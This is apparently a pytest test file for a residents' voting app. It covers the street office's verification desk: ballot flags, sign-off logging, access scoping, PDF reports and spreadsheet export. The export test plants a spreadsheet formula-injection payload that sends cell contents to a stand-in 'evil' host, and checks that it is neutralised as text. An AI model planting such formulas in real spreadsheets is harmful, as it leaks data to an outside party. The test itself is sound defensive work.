"""The street office's verification desk: figures, roll, evidence, flags, sign-off, export, scoping."""

from __future__ import annotations

import io
from datetime import timedelta

import sqlalchemy as sa
from openpyxl import load_workbook

from residents_app.audit.models import AuditEvent
from residents_app.extensions import db
from residents_app.formatting import format_local_dt
from residents_app.oversight.round_facts import round_flags
from residents_app.rounds import ballots
from residents_app.rounds.models import Round


def _events(estate_id, kind):
    return db.session.execute(sa.select(AuditEvent).where(AuditEvent.chain == estate_id, AuditEvent.kind == kind)
                              .order_by(AuditEvent.seq)).scalars().all()


def test_flags_name_exactly_the_units_concerned(voted_round):
    flags = {f.kind: f for f in round_flags(db.session.get(Round, voted_round.id))}
    # Issue 13 item 10: the desk flags proxy ballots too (the voted round has one, confirmed by a second member).
    assert set(flags) == {"paper_unconfirmed", "proxy", "late_change", "owner_changed"}
    assert flags["proxy"].unit_labels == ["2幢-101"]
    assert flags["proxy"].detail == "1 张委托代理票，请核对书面委托书"
    assert flags["paper_unconfirmed"].unit_labels == ["2幢-102"]
    assert flags["paper_unconfirmed"].detail == "1 张纸质票尚无第二名业委会成员确认"
    assert flags["late_change"].unit_labels == ["1幢-202"]
    assert flags["late_change"].detail == "1 次改票发生在 2026-09-08 09:00 至 2026-09-08 10:00 之间"
    assert flags["owner_changed"].unit_labels == ["1幢-101"]
    assert flags["owner_changed"].detail == "1幢-101：2026-09-03 10:00 新增业主"


def test_late_change_boundary_is_one_hour(db, voted_round, now):
    """A change exactly one hour before the close is flagged; one minute earlier is not."""
    from residents_app.rounds import services as rs

    rnd = db.session.get(Round, voted_round.id)
    units = voted_round.unit_ids
    # Re-open a copy of the situation on a new round to move the change time.
    from residents_app.registry.models import Unit

    for minutes, flagged in ((60, True), (61, False)):
        r2 = rs.create_round(rnd.estate_id, rs.RoundInput(kind="general", matter_item=7, title=f"边界{minutes}",
                                                          opens_at=now,
                                                          closes_at=now + timedelta(days=1)), now, voted_round.c1)
        rs.open_round(r2.id, now, voted_round.c1)
        unit = db.session.get(Unit, units["1幢-102"])
        owner = unit.owners[0].id
        ballots.cast_ballot(r2.id, unit.id, owner, "agree", now + timedelta(hours=1))
        ballots.cast_ballot(r2.id, unit.id, owner, "disagree", now + timedelta(days=1) - timedelta(minutes=minutes))
        kinds = {f.kind for f in round_flags(r2)}
        assert ("late_change" in kinds) is flagged, minutes


def test_burst_from_one_source_is_flagged(db, voted_round, now):
    """Three units within ten minutes from one address hash: flagged; the window is inclusive."""
    from residents_app.audit.services import record
    from residents_app.rounds import services as rs

    r2 = rs.create_round(voted_round.estate_id, rs.RoundInput(kind="general", matter_item=7, title="来源测试",
                                                              opens_at=now,
                                                              closes_at=now + timedelta(days=1)), now, voted_round.c1)
    rs.open_round(r2.id, now, voted_round.c1)
    from residents_app.registry.models import Unit
    from residents_app.rounds.models import Ballot

    times = {"1幢-101": 0, "1幢-102": 4, "1幢-201": 10, "1幢-202": 30}
    for label, minute in times.items():
        unit = db.session.get(Unit, voted_round.unit_ids[label])
        at = now + timedelta(hours=1, minutes=minute)
        ballot = Ballot(round_id=r2.id, unit_id=unit.id, choice="agree", channel="online", status="counted",
                        cast_at=at, receipt_code=f"{unit.id:020x}")
        db.session.add(ballot)
        db.session.flush()
        # The ballot.cast entry as the rounds feature writes it: subject the ballot, a hash of the client address.
        record("ballot.cast", chain=voted_round.estate_id, actor=f"unit:{unit.id}/owner:0", now=at,
               subject_type="ballot", subject_id=ballot.id,
               data={"round_id": r2.id, "unit_id": unit.id, "choice": "agree", "channel": "online",
                     "ip_hash": "a1b2c3d4e5f6", "receipt": ballot.receipt_code})
    db.session.flush()
    flags = [f for f in round_flags(r2) if f.kind == "burst"]
    assert len(flags) == 1
    assert flags[0].unit_labels == ["1幢-101", "1幢-102", "1幢-201"]
    assert flags[0].detail.startswith("3 户在 10 分钟内从同一来源（a1b2c3d4…）投票")


def test_desk_shows_rule_conditions_roll_and_evidence(client, login_as, voted_round):
    login_as(client, voted_round.street)
    resp = client.get(f"/rounds/{voted_round.id}/verify")
    html = resp.get_data(as_text=True)
    assert resp.status_code == 200
    # Issue 13 item 10: 4 flags (the proxy ballot of 2幢-101 is flagged as well).
    for expected in ("鹿城双三分之二规则", "389.30 m²（69.91%）", "超出 18.06 m²", "4 户（66.66%）", "恰好达到",
                     "表决结果：通过", "本小区审计日志完好", "王受托", "纸质 待第二人确认",
                     f'/audit/files/{voted_round.scan_id}"', f'/audit/files/{voted_round.mandate_file_id}"',
                     "需要留意的情况（4）", "1幢-101：2026-09-03 10:00 新增业主", 'name="decision" value="verified"'):
        assert expected in html, expected


def test_scan_is_served_to_the_street_office_only(client, login_as, factory, voted_round):
    login_as(client, voted_round.street)
    resp = client.get(f"/audit/files/{voted_round.scan_id}")
    assert resp.status_code == 200
    assert resp.data == b"%PDF-1.4\n% scan\n"
    assert resp.mimetype == "application/pdf"
    other = factory.user("street", office=factory.street_office(code="OTHER"))
    client.post("/logout")
    login_as(client, other)
    assert client.get(f"/audit/files/{voted_round.scan_id}").status_code == 404
    assert client.get(f"/rounds/{voted_round.id}/verify").status_code == 404
    assert client.get(f"/rounds/{voted_round.id}/report.pdf").status_code == 404
    assert client.get(f"/rounds/{voted_round.id}/verify/export.xlsx").status_code == 404


def test_sign_off_verified_is_logged(client, login_as, voted_round):
    login_as(client, voted_round.street)
    resp = client.post(f"/rounds/{voted_round.id}/verify", data={"decision": "verified", "comment": "材料齐全"},
                       follow_redirects=True)
    html = resp.get_data(as_text=True)
    assert "已记录核验意见：核验通过（已写入审计日志）" in html
    [ev] = _events(voted_round.estate_id, "round.verification")
    assert ev.data["decision"] == "verified"
    assert ev.data["comment"] == "材料齐全"
    assert ev.data["passed"] is True
    assert ev.actor == f"user:{voted_round.street.id}:vr_street"
    assert ev.data["chain_head_seq"] == ev.seq - 1
    assert "核验通过</strong>" in html and "材料齐全" in html
    from residents_app.oversight.round_facts import signoff_text

    assert signoff_text(db.session.get(Round, voted_round.id)) == (
        # Issue 18 item 5: the signer by name and office, not by username.
        f"核验通过（{format_local_dt(ev.at)}，{voted_round.street.display_name}（{voted_round.street.street_office.name}），"
        f"审计日志第 {ev.seq} 条）：材料齐全")


def test_return_needs_a_comment(client, login_as, voted_round):
    login_as(client, voted_round.street)
    resp = client.post(f"/rounds/{voted_round.id}/verify", data={"decision": "returned", "comment": "  "},
                       follow_redirects=True)
    assert "退回时必须填写意见，说明需要业委会补正什么" in resp.get_data(as_text=True)
    assert _events(voted_round.estate_id, "round.verification") == []
    resp = client.post(f"/rounds/{voted_round.id}/verify",
                       data={"decision": "returned", "comment": "2幢-102 纸质票请补第二人确认"}, follow_redirects=True)
    assert "已记录核验意见：退回" in resp.get_data(as_text=True)
    assert [e.data["decision"] for e in _events(voted_round.estate_id, "round.verification")] == ["returned"]


def test_unknown_decision_is_refused(client, login_as, voted_round):
    login_as(client, voted_round.street)
    resp = client.post(f"/rounds/{voted_round.id}/verify", data={"decision": "approve"}, follow_redirects=True)
    # Issue 13 item 12: a third decision for failed rounds, named in the message.
    assert "请选择“核验通过”“核验属实（未通过）”或“退回”" in resp.get_data(as_text=True)


def test_committee_cannot_sign_off(client, login_as, voted_round):
    login_as(client, voted_round.c1)
    assert client.get(f"/rounds/{voted_round.id}/verify").status_code == 200
    assert client.post(f"/rounds/{voted_round.id}/verify", data={"decision": "verified"}).status_code == 404
    assert _events(voted_round.estate_id, "round.verification") == []


def test_verified_is_refused_when_the_chain_is_broken(client, login_as, voted_round, tamper):
    t = AuditEvent.__table__
    first = db.session.execute(sa.select(t.c.id).where(t.c.chain == voted_round.estate_id)
                               .order_by(t.c.seq).limit(1)).scalar()
    tamper(sa.update(t).where(t.c.id == first).values(actor="user:99:mallory"))
    login_as(client, voted_round.street)
    page = client.get(f"/rounds/{voted_round.id}/verify").get_data(as_text=True)
    assert "审计日志校验未通过" in page and "problem" not in page
    resp = client.post(f"/rounds/{voted_round.id}/verify", data={"decision": "verified"}, follow_redirects=True)
    assert "本小区审计日志校验未通过" in resp.get_data(as_text=True)
    assert "不能核验通过" in resp.get_data(as_text=True)


def test_sign_off_refused_while_open(client, login_as, voted_round, now):
    from residents_app.rounds import services as rs

    r2 = rs.create_round(voted_round.estate_id, rs.RoundInput(kind="general", matter_item=7, title="未结束",
                                                              opens_at=now,
                                                              closes_at=now + timedelta(days=30)), now, voted_round.c1)
    rs.open_round(r2.id, now, voted_round.c1)
    login_as(client, voted_round.street)
    resp = client.post(f"/rounds/{r2.id}/verify", data={"decision": "verified"}, follow_redirects=True)
    assert "表决尚未结束，不能核验" in resp.get_data(as_text=True)


def test_export_is_logged_and_neutralises_formulas(client, login_as, db, voted_round):
    from residents_app.registry.models import Owner, Unit

    unit = db.session.get(Unit, voted_round.unit_ids["2幢-101"])
    # The roll froze the name; a hostile name in the frozen roll must stay text in the spreadsheet.
    from residents_app.rounds.models import RollEntry

    entry = db.session.execute(sa.select(RollEntry).where(RollEntry.round_id == voted_round.id,
                                                          RollEntry.unit_id == unit.id)).scalar_one()
    entry.owner_names = ['=HYPERLINK("http://evil/?"&A1)']
    db.session.flush()
    assert isinstance(unit.owners[0], Owner)
    login_as(client, voted_round.street)
    resp = client.get(f"/rounds/{voted_round.id}/verify/export.xlsx")
    assert resp.status_code == 200
    assert resp.headers["Cache-Control"] == "no-store"
    wb = load_workbook(io.BytesIO(resp.data))
    roll = wb["表决名册"]
    rows = list(roll.iter_rows(min_row=2, values_only=True))
    assert [r[:2] for r in rows] == [("1幢", "101"), ("1幢", "102"), ("1幢", "201"), ("1幢", "202"),
                                     ("2幢", "101"), ("2幢", "102")]
    by_unit = {(r[0], r[1]): r for r in rows}
    assert by_unit[("1幢", "202")][4:6] == ("不同意改造", "线上")
    assert by_unit[("1幢", "202")][7] == 1  # one change
    assert by_unit[("2幢", "102")][4] == "未投票" and by_unit[("2幢", "102")][8] == 1
    cell = roll.cell(row=6, column=4)
    assert cell.value == '=HYPERLINK("http://evil/?"&A1)' and cell.data_type == "s" and cell.quotePrefix
    history = list(wb["投票记录"].iter_rows(min_row=2, values_only=True))
    assert len(history) == 7  # 5 units' counted casts, the superseded 1幢-202 agree, the pending paper ballot
    [ev] = _events(voted_round.estate_id, "export.downloaded")
    assert ev.data == {"what": "round_roll_ballots_xlsx", "rows": 6 + len(history)}
    assert ev.subject_id == str(voted_round.id)


def test_report_pdf_download_is_logged(client, login_as, voted_round):
    login_as(client, voted_round.c1)
    resp = client.get(f"/rounds/{voted_round.id}/report.pdf")
    assert resp.status_code == 200
    assert resp.mimetype == "application/pdf"
    assert resp.data.startswith(b"%PDF-")
    [ev] = _events(voted_round.estate_id, "export.downloaded")
    assert ev.data == {"what": "round_report_pdf"}
    assert ev.actor == f"user:{voted_round.c1.id}:vr_c1"


def test_anonymous_is_sent_to_login(client, voted_round):
    resp = client.get(f"/rounds/{voted_round.id}/verify")
    assert resp.status_code == 302 and "/login" in resp.headers["Location"]


def test_owner_change_by_roster_import_is_flagged(db, voted_round, now):
    from residents_app.audit.services import record

    # The register's import event, as registry.services.apply_roster writes it.
    record("register.import", chain=voted_round.estate_id, actor="user:0:test", now=now + timedelta(days=3),
           subject_type="estate", subject_id=voted_round.estate_id,
           data={"ownerships_added": ["2幢-101 李四"], "ownerships_removed": ["2幢-101 业主7", "9幢-901 某人"]})
    flag = next(f for f in round_flags(db.session.get(Round, voted_round.id)) if f.kind == "owner_changed")
    assert flag.unit_labels == ["1幢-101", "2幢-101"]
    assert flag.detail == ("1幢-101：2026-09-03 10:00 新增业主；"
                           "2幢-101：2026-09-04 10:00 导入名册新增业主、2026-09-04 10:00 导入名册移除业主")


def test_report_of_an_open_round_is_interim_and_of_a_draft_refused(client, login_as, voted_round, now, tmp_path):
    import subprocess

    from residents_app.rounds import services as rs

    def new_round(title):
        return rs.create_round(voted_round.estate_id, rs.RoundInput(kind="general", matter_item=7, title=title,
                                                                    opens_at=now,
                                                                    closes_at=now + timedelta(days=30)), now,
                               voted_round.c1)

    opened, draft = new_round("进行中表决"), new_round("草稿表决")
    rs.open_round(opened.id, now, voted_round.c1)
    login_as(client, voted_round.c1)
    resp = client.get(f"/rounds/{opened.id}/report.pdf")
    assert resp.status_code == 200
    path = tmp_path / "interim.pdf"
    path.write_bytes(resp.data)
    text = subprocess.run(["pdftotext", "-enc", "UTF-8", str(path), "-"], capture_output=True, check=True).stdout
    assert "投票中（中间结果，非最终结果）" in text.decode()
    # Last: an error response rolls the test's transaction back.
    resp = client.get(f"/rounds/{draft.id}/report.pdf")
    assert resp.status_code == 409
    assert "该表决尚未开始，还没有可出具报告的结果" in resp.get_data(as_text=True)
